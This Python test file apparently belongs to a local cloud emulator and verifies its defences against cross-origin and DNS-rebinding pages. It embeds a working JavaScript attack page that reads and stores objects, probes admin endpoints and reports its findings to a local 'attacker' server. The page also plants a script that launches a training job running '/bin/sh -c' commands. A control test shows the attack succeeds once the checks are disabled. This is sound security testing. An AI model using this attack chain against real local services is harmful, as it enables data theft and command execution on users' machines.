"""A real browser: a page on another port, and one behind a rebound name, store, read and start nothing.

The same page against the same emulator without its checks is the control: there it stores an object, reads another, and
the stored object's script starts a job that runs a command.
"""

from __future__ import annotations

import http.server
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
import time
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from cloudtune_emulator import Emulator, Settings, admission
from cloudtune_emulator.aws import authentication
from cloudtune_emulator.context import EmulatorContext

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
LIMIT_S = 150
NAME = "rebind.example"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8ffff3f0005fe02fea73581e40000000049454e44ae426082"
)
KEPT = "what the emulator keeps"
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage", "--no-proxy-server",
)  # fmt: skip

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install chromium)"),
    pytest.mark.timeout(2 * LIMIT_S),
]

# What the page does, and what the object that it stores does once it is opened. Names and places are the defaults,
# which anybody knows; no key is.
PAGE = r"""<!doctype html><title>page</title><body><script>
const [target, bucket, object, patience] = @GIVEN@;
const day = new Date().toISOString().slice(0, 10).replaceAll('-', '');
const scope = service => `x/${day}/us-east-1/${service}/aws4_request`;
const query = service => 'X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=' + encodeURIComponent(scope(service))
  + '&X-Amz-SignedHeaders=host&X-Amz-Expires=600&X-Amz-Signature=' + '0'.repeat(64)
  + '&X-Amz-Date=' + new Date().toISOString().replace(/[-:]|\.\d+/g, '');
const within = (promise, ms = 20000) => Promise.race([promise, new Promise(done => setTimeout(done, ms, 'no answer'))]);
const found = {};
const read = async (name, path, options) => {
  try { const answer = await within(fetch(target + path, options)); found[name] = answer.text
    ? `${answer.type} ${answer.status} ${await answer.text()}` : answer; }
  catch (error) { found[name] = String(error); }
};
const loaded = (element, name) => within(new Promise(done => {
  element.onload = () => { found[name] = 'loaded'; done(); };
  element.onerror = () => { found[name] = 'failed'; done(); };
}));
const frame = name => {
  const it = Object.assign(document.createElement('iframe'), {name}); document.body.append(it); return it; };
async function form() {
  const [it, file, key] = ['form', 'input', 'input'].map(name => document.createElement(name));
  const files = new DataTransfer();
  files.items.add(new File([object], 'page.html', {type: 'text/html'}));
  Object.assign(file, {type: 'file', name: 'file'}); file.files = files.files;
  Object.assign(key, {name: 'key', value: 'page.html'});
  const type = Object.assign(document.createElement('input'), {name: 'Content-Type', value: 'text/html'});
  Object.assign(it, {method: 'POST', enctype: 'multipart/form-data', target: 'posted',
                     action: `${target}/${bucket}?${query('s3')}`});
  it.append(key, type, file); document.body.append(it);
  const answered = loaded(frame('posted'), 'form');
  it.submit(); await answered;
}
async function open() {
  const said = within(new Promise(done => addEventListener('message', event => done(event.data))), patience);
  const it = frame('opened'), answered = loaded(it, 'frame');
  it.src = `${target}/${bucket}/page.html?${query('s3')}`;
  await answered; found.object = await said;
}
async function all() {
  const image = new Image(), script = document.createElement('script');
  const waits = [loaded(image, 'image'), loaded(script, 'script')];
  image.src = `${target}/${bucket}/pixel.png?${query('s3')}`;
  script.src = `${target}/${bucket}/kept?${query('s3')}`; document.body.append(script);
  const socket = new WebSocket(target.replace('http', 'ws') + '/_emulator/store');
  waits.push(within(new Promise(done => { socket.onopen = () => { found.socket = 'open'; done(); };
                                          socket.onerror = () => { found.socket ??= 'failed'; done(); }; })));
  const bearer = {headers: {Authorization: 'Bearer guessed'}};
  await Promise.all([...waits,
    read('simple get', `/${bucket}/kept?${query('s3')}`), read('models', '/v1/models'),
    read('with a key', '/v1/models', bearer), read('admin', '/_emulator/store'),
    read('no-cors', `/${bucket}?${query('s3')}`, {mode: 'no-cors'}),
    read('post', '/v1/fine_tuning/jobs', {method: 'POST', mode: 'no-cors', body: '{}'}),
    read('clock', '/_emulator/clock', {method: 'POST', mode: 'no-cors', body: '{"advance": 1000000}'}),
    read('reset', `/moto-api/reset?${query('s3')}`, {method: 'POST', mode: 'no-cors'}),
    read('put', `/${bucket}/put.html?${query('s3')}`, {method: 'PUT', body: object}),
  ]);
  await form(); await open();
  await fetch('/report', {method: 'POST', body: JSON.stringify(found)});
}
all().catch(error => fetch('/report', {method: 'POST', body: JSON.stringify({error: String(error.stack)})}));
</script></body>"""
OBJECT = r"""<!doctype html><script>
fetch('/', {method: 'POST', body: JSON.stringify(@JOB@), headers: {
  'X-Amz-Target': 'SageMaker.CreateTrainingJob', 'Content-Type': 'application/x-amz-json-1.1',
  'X-Amz-Date': '20261129T000000Z', Authorization: 'AWS4-HMAC-SHA256 '
    + 'Credential=x/20261129/us-east-1/sagemaker/aws4_request, SignedHeaders=host, Signature=0'}})
  .then(answer => answer.text()).catch(String).then(text => parent.postMessage(text, '*'));
</script>"""


class Attacker(http.server.ThreadingHTTPServer):
    """Serves the page, and takes its report."""

    def __init__(self, page: str) -> None:
        reports: queue.Queue[dict[str, Any]] = queue.Queue()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page.encode(), "text/html")

            def do_POST(self) -> None:
                reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._answer(b"", "text/plain")

            def _answer(self, body: bytes, kind: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                """Quiet."""

        super().__init__(("127.0.0.1", 0), Handler)
        self.reports = reports


@contextmanager
def browser(folder: Path, url: str, *more: str) -> Iterator[subprocess.Popen[str]]:
    assert CHROMIUM is not None
    flags = [*FLAGS, f"--user-data-dir={folder}", f"--host-resolver-rules=MAP {NAME} 127.0.0.1", *more]
    process = subprocess.Popen(
        [CHROMIUM, *flags, url], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True
    )
    try:
        yield process
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


def job(emulator: Emulator, command: str) -> dict[str, Any]:
    """A training job that runs a command on this machine, if the engine trains."""
    settings = emulator.settings
    return {
        "TrainingJobName": "from-a-page", "RoleArn": f"arn:aws:iam::{settings.aws_account}:role/{settings.aws_role}",
        "AlgorithmSpecification": {"TrainingImage": "an/image:1", "TrainingInputMode": "File",
                                   "ContainerEntrypoint": ["/bin/sh", "-c", command]},
        "OutputDataConfig": {"S3OutputPath": f"s3://{settings.aws_bucket}/out"},
        "ResourceConfig": {"InstanceType": "ml.m5.xlarge", "InstanceCount": 1, "VolumeSizeInGB": 10},
        "StoppingCondition": {"MaxRuntimeInSeconds": 3600},
    }  # fmt: skip


def keep(emulator: Emulator) -> None:
    """What a page may want to read."""
    s3, bucket = emulator.context.aws.backend("s3"), emulator.settings.aws_bucket
    s3.put_object(bucket, "kept", KEPT.encode())
    s3.put_object(bucket, "pixel.png", PIXEL).metadata["Content-Type"] = "image/png"


def document(emulator: Emulator, marker: Path) -> str:
    """The object that the page tries to store."""
    return OBJECT.replace("@JOB@", json.dumps(job(emulator, f"touch {marker}")))


def attacked(emulator: Emulator, folder: Path, host: str, marker: Path, *, patience_s: float = 3.0) -> dict[str, Any]:
    """Let the page try all that it knows, and return what it has seen. An object that is opened gets ``patience_s``."""
    target = emulator.url.replace("127.0.0.1", host)
    attempt = [target, emulator.settings.aws_bucket, document(emulator, marker), 1000 * patience_s]
    given = json.dumps(attempt).replace("</", "<\\/")
    page = PAGE.replace("@GIVEN@", given)
    with Attacker(page) as attacker:
        thread = threading.Thread(target=attacker.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            with browser(folder / "profile", f"http://{host}:{attacker.server_address[1]}/"):
                return attacker.reports.get(timeout=LIMIT_S)
        finally:
            attacker.shutdown()
            thread.join()


@pytest.fixture
def seen(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str, str]]:
    """Method, path and ``Upgrade`` of each request that reaches the emulator."""
    found: list[tuple[str, str, str]] = []
    check = admission.check

    def noting(request: Any, host: str) -> None:
        found.append((request.method, request.path, request.headers.get("Upgrade", "")))
        check(request, host)

    monkeypatch.setattr(admission, "check", noting)
    return found


@pytest.mark.parametrize("engine", ["script", "train"])
@pytest.mark.parametrize("host", ["127.0.0.1", NAME], ids=["another port", "rebound name"])
def test_a_page_stores_reads_and_starts_nothing(
    engine: str, host: str, tmp_path: Path, seen: list[tuple[str, str, str]]
) -> None:
    with Emulator(Settings(engine=engine)) as emulator:  # type: ignore[arg-type]
        keep(emulator)
        before = emulator.census()
        found = attacked(emulator, tmp_path, host, tmp_path / "marker")
        after, acted = emulator.census(), [one for one in emulator.requests if one["acted"]]
        clock = emulator.clock.now()
    _arrived(found, seen, emulator.settings.aws_bucket)
    assert (after, acted) == (before, [])
    assert clock < time.time() + 3600
    assert not [name for name, text in found.items() if KEPT in text or "open" in text.split() or "gpt-" in text]
    assert found["image"] == found["script"] == "failed"
    assert found["object"] == "no answer"
    assert not (tmp_path / "marker").exists()


def _arrived(found: dict[str, Any], seen: list[tuple[str, str, str]], bucket: str) -> None:
    """Every attempt was made, and reached the emulator."""
    assert "error" not in found, found
    requested = {(method, path) for method, path, _ in seen}
    wanted = {
        ("GET", f"/{bucket}/pixel.png"), ("GET", f"/{bucket}/kept"), ("GET", f"/{bucket}/page.html"),
        ("GET", "/v1/models"), ("POST", f"/{bucket}"), ("POST", "/v1/fine_tuning/jobs"), ("POST", "/_emulator/clock"),
        ("POST", "/moto-api/reset"), ("OPTIONS", f"/{bucket}/put.html"),
    }  # fmt: skip
    assert wanted <= requested, wanted - requested
    assert ("GET", "/_emulator/store", "websocket") in seen


def test_a_rebound_page_reads_nothing_of_its_own_origin(tmp_path: Path) -> None:
    """After rebinding the page's requests are of the same origin: only the name tells them apart."""
    with Emulator(Settings()) as emulator:
        shown = {}
        for host in ("127.0.0.1", NAME):
            url = f"{emulator.url.replace('127.0.0.1', host)}/_emulator/store"
            with browser(tmp_path / host, url, "--dump-dom") as process:
                assert process.stdout is not None
                shown[host] = process.stdout.read()
    assert "needs the admin token" in shown["127.0.0.1"]
    assert "is not a name of this server" in shown[NAME]


def test_without_the_checks_the_page_runs_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, seen: list[tuple[str, str, str]]
) -> None:
    """The control. The object is there already: S3's form upload, which a page could cause, is not emulated."""
    noting = admission.check

    def unchecked(request: Any, host: str) -> None:
        try:
            noting(request, host)
        except Exception:  # noqa: BLE001 - whatever it refuses
            return

    monkeypatch.setattr(admission, "check", unchecked)
    monkeypatch.setattr(admission, "response_headers", list)
    monkeypatch.setattr(authentication, "verify", lambda *_: None)
    monkeypatch.setattr(EmulatorContext, "opens", staticmethod(lambda given, wanted: True))
    with Emulator(Settings(engine="train")) as emulator:
        keep(emulator)
        stored = document(emulator, tmp_path / "marker").encode()
        s3 = emulator.context.aws.backend("s3")
        s3.put_object(emulator.settings.aws_bucket, "page.html", stored).metadata["Content-Type"] = "text/html"
        found = attacked(emulator, tmp_path, "127.0.0.1", tmp_path / "marker", patience_s=LIMIT_S)
        _arrived(found, seen, emulator.settings.aws_bucket)
        assert KEPT in found["simple get"]
        assert found["image"] == "loaded"
        assert "TrainingJobArn" in found["object"]
        end = time.monotonic() + LIMIT_S
        while not (tmp_path / "marker").exists() and time.monotonic() < end:
            emulator.census()
            time.sleep(0.1)
    assert (tmp_path / "marker").exists()
